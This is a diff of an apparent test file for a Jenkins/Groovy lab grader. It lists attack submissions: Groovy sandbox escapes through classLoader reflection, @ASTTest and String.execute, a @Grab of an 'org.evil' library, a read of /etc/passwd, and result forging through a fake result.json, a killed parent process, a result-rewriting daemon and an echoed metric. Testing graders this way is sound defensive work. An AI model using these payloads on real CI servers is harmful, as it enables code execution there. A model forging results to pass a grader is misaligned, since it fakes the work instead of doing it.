@@ -42,7 +42,7 @@ RUNS = [f"sh 'cd lab2 && {command}'" for command in COMMANDS]
 ATTACKS = {
     # Stubs get 2 for the scripts and 2 for checkout; 3 for a file that Jenkins can read, 1 for another.
     "writes the result itself": _stubs(
-        node(f"sh '''echo '{SUCCESS}' >&2; echo '{LINE} 0.99'; echo '{SUCCESS}' >result.json; kill -9 $PPID'''"),
+        node(f"sh '''echo '{SUCCESS}' | tee result.json >&2; echo '{LINE} 0.99'; kill -9 $PPID'''"),
         7, "the imitation is killed behind a forged result",
     ),
     "ends Groovy": _stubs(node(f"echo '{LINE} 0.99'", "System.exit(0)"), 5, "System.exit"),
@@ -50,7 +50,9 @@ ATTACKS = {
         node("def name = 'cla' + 'ss'", "''[name]['class' + 'Loader'].loadClass('java.lang.System')"),
         5, "a class by the name of a property",
     ),
-    "fetches a library": _stubs("@Grab('org.evil:agent:1.0')\nimport org.evil.Agent\n" + node("echo 'x'"), 5, "@Grab"),
+    "fetches a library": _stubs(
+        "@Grab('org.evil:agent:1.0')\nimport org.evil.Agent\n" + node("echo 'x'"), 5, "@Grab"
+    ),
     "runs code in the compiler": _stubs(
         "@groovy.transform.ASTTest(value={ System.exit(0) }) def x = 1\n" + node("echo 'x'"), 5, "@ASTTest"
     ),
@@ -58,9 +60,10 @@ ATTACKS = {
     "makes a file of a list": _stubs(node("File f = ['/etc/passwd']", "echo f.text"), 5, "a coercion"),
     "starts a program": _stubs(node("'touch /tmp/reached-the-grader'.execute()"), 5, "String.execute"),
     "forks daemons": _stubs(  # it finishes, and something for train is there
-        node(f"dir('lab2') {{ sh '''{DAEMON}''' }}", f"echo '{LINE} 0.99'"), 8, "a daemon that rewrites results"
+        node(f"dir('lab2') {{ sh '''{DAEMON}''' }}", f"echo '{LINE} 0.99'"),
+        8, "a daemon that rewrites results",
     ),
-    "prints a fake metric": lab2(  # 0 of 2 for the quality, which is none; it is printed when training fails, too
+    "prints a fake metric": lab2(  # 0 of 2 for the quality; it is printed when training fails, too
         node(f"sh 'echo {LINE} 0.999'", *RUNS[:3]), 17, "an echo instead of testing", model_testing="pass\n"
     ),
     "boasts in post": lab2(
